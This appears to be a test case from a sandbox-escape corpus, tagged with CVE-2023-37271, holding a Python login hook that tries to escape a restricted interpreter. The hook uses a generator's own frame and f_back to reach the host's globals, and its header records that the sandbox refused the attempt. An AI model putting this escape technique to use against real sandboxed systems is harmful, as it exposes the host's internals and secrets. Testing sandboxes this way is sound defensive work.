# origin: CVE-2023-37271
# technique: a generator yields its own frame and walks out through f_back
# goal: language
# outcome: refused:attribute-not-allowed

def on_execute_post_login(event, api):
    g = (g.gi_frame for x in [1])
    api.user.set_app_metadata("escaped", str(next(g).f_back.f_globals))
